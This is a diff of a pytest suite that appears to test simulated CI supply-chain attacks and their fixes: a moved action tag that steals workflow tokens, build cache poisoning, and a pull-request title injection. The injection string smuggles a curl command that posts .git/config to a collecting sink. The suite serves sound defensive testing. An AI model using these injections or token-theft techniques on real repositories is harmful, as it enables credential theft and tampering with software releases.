@@ -7,7 +7,6 @@ from __future__ import annotations
 
 import base64
 import io
-import json
 import re
 import shutil
 import zipfile
@@ -90,47 +89,37 @@ def moved_tag(world: World, sink: Sink) -> None:
 CI = Path(".github/workflows/ci.yml")
 
 
-def short(project: Project) -> None:
-    """Leave out what only costs time: the attack needs neither packages nor tests."""
-    text = (project.folder / CI).read_text()
-    text = re.sub(
-        r"python -m pip install --extra-index-url.*\n\s*python -m pip install -e \.", "true", text
-    )
-    (project.folder / CI).write_text(text.replace("python -m pytest -q", "true"))
+@pytest.fixture
+def weak(triage: Callable[[str], Project], shorten: Callable[[Path], None]) -> Project:
+    """The weak project without what only costs time: the attacks need neither tests nor training."""
+    project = triage("weak")
+    shorten(project.folder)
     project.commit("shorter")
+    return project
 
 
 @pytest.mark.usefixtures("moved_tag")
 def test_a_moved_tag_steals_the_token_of_the_weak_workflow(
-    triage: Callable[[str], Project], sink: Sink, world: World
+    weak: Project, sink: Sink, world: World
 ) -> None:
-    project = triage("weak")
-    short(project)
-    run = project.run("push", workflow="ci.yml", ports=[sink.port])
+    run = weak.run("push", workflow="ci.yml", ports=[sink.port])
     assert run.result == "success", run.log  # nobody sees anything
-    stolen = (
-        base64.b64decode(re.search(r"[Bb]asic (\S+)", sink.text)[1]).decode().rpartition(":")[2]
-    )  # type: ignore[index]
+    (header,) = set(re.findall(r"[Bb]asic (\S+)", sink.text))
+    stolen = base64.b64decode(header).decode().rpartition(":")[2]
     assert stolen.startswith("ghs_")
     assert "ACTIONS_ID_TOKEN_REQUEST_TOKEN=" in sink.text  # `write-all` includes the identity
     assert world.ci.platform.credentials.check(stolen) is None  # it died with the job
 
 
 @pytest.mark.usefixtures("moved_tag")
-def test_a_pinned_action_is_not_moved(
-    triage: Callable[[str], Project], sink: Sink, world: World
-) -> None:
-    project = triage("weak")
-    short(project)
+def test_a_pinned_action_is_not_moved(weak: Project, sink: Sink, world: World) -> None:
     good = world.ci.platform.mirror.resolve("acme/changed-files@v3.0.0").commit
-    text = (
-        (project.folder / CI)
-        .read_text()
-        .replace("acme/changed-files@v3", f"acme/changed-files@{good}")
-    )
-    (project.folder / CI).write_text(text)
-    project.commit("pin")
-    assert project.run("push", workflow="ci.yml", ports=[sink.port]).result == "success"
+    text = (weak.folder / CI).read_text()
+    pinned = text.replace("acme/changed-files@v3", f"acme/changed-files@{good}")
+    assert pinned != text
+    (weak.folder / CI).write_text(pinned)
+    weak.commit("pin")
+    assert weak.run("push", workflow="ci.yml", ports=[sink.port]).result == "success"
     assert sink.received == []
 
 
@@ -147,12 +136,11 @@ INJECTION = 'x"; curl --silent --noproxy \'*\' --data-binary "$(cat .git/config)
 
 
 def test_a_title_runs_as_code_in_the_weak_workflow(
-    triage: Callable[[str], Project], sink: Sink, tmp_path: Path
+    weak: Project, sink: Sink, tmp_path: Path
 ) -> None:
-    project = triage("weak")
-    change = pull(project, tmp_path, title=INJECTION % sink.url, files={"README.md": "a typo"})
-    project.run("pull_request_target", pull=change, workflow="label.yml", ports=[sink.port])
-    assert "extraheader = AUTHORIZATION: basic" in sink.text or "extraheader" in sink.text.lower()
+    change = pull(weak, tmp_path, title=INJECTION % sink.url, files={"README.md": "a typo"})
+    weak.run("pull_request_target", pull=change, workflow="label.yml", ports=[sink.port])
+    assert "extraheader" in sink.text.lower()
 
 
 @pytest.mark.parametrize("where", ["title", "branch"])
@@ -175,7 +163,6 @@ def poisoned(world: World, project: Project, change: Pull, event: str, rule: str
     world.ci.platform.cache.delete(project.repository)
     run = project.run(event, pull=change, workflow="bench.yml", cache_rule=rule)
     assert run.result == "success", run.log  # a pull request that looks well
-    print(run.log)
     return [entry.scope for entry in world.ci.platform.cache.entries(project.repository)]
 
 
@@ -191,34 +178,31 @@ def wheel_of(world: World, project: Project, tag: str) -> set[str]:
 
 
 def test_a_poisoned_cache_changes_what_the_weak_release_publishes(
-    world: World, triage: Callable[[str], Project], tmp_path: Path
+    world: World, weak: Project, tmp_path: Path
 ) -> None:
-    project = triage("weak")
-    change = pull(project, tmp_path, files={"tests/size.py": POISON})
+    change = pull(weak, tmp_path, files={"tests/size.py": POISON})
     main = "refs/heads/main"
-    assert poisoned(world, project, change, "pull_request_target", "current") == []
-    assert poisoned(world, project, change, "pull_request_target", "before-2026-06-26") == [main]
-    assert "triage_model/marker.txt" in wheel_of(world, project, "v1.4.0")
+    assert poisoned(world, weak, change, "pull_request_target", "current") == []
+    assert poisoned(world, weak, change, "pull_request_target", "before-2026-06-26") == [main]
+    assert "triage_model/marker.txt" in wheel_of(world, weak, "v1.4.0")
 
 
 def test_a_pull_request_never_writes_the_default_branchs_cache(
-    world: World, triage: Callable[[str], Project], tmp_path: Path
+    world: World, weak: Project, tmp_path: Path
 ) -> None:
-    project = triage("weak")
-    bench = project.folder / ".github/workflows/bench.yml"
+    bench = weak.folder / ".github/workflows/bench.yml"
     bench.write_text(bench.read_text().replace("pull_request_target:", "pull_request:"))
-    project.commit("on pull_request")
-    change = pull(project, tmp_path, files={"tests/size.py": POISON})
+    weak.commit("on pull_request")
+    change = pull(weak, tmp_path, files={"tests/size.py": POISON})
     for rule in ("before-2026-06-26", "current"):
-        assert poisoned(world, project, change, "pull_request", rule) == [
+        assert poisoned(world, weak, change, "pull_request", rule) == [
             f"refs/pull/{change.number}/merge"
         ]
 
 
 def test_the_hardened_release_restores_nothing(
-    world: World, triage: Callable[[str], Project], tmp_path: Path
+    world: World, weak: Project, triage: Callable[[str], Project], tmp_path: Path
 ) -> None:
-    weak = triage("weak")
     change = pull(weak, tmp_path, files={"tests/size.py": POISON})
     assert poisoned(world, weak, change, "pull_request_target", "before-2026-06-26")
     shutil.rmtree(weak.folder)
@@ -226,8 +210,6 @@ def test_the_hardened_release_restores_nothing(
     pyproject = project.folder / "src/triage_model/__init__.py"
     pyproject.write_text(pyproject.read_text().replace("1.4.0", "1.4.1"))
     project.commit("1.4.1")
+    before = world.registry.events.last
     assert "triage_model/marker.txt" not in wheel_of(world, project, "v1.4.1")
-    saved = json.dumps(
-        [event.data for event in world.registry.events.read("dev.chainlab.cache.restored")]
-    )
-    assert "v1.4.1" not in saved
+    assert list(world.registry.events.read("dev.chainlab.cache.restored", after=before)) == []
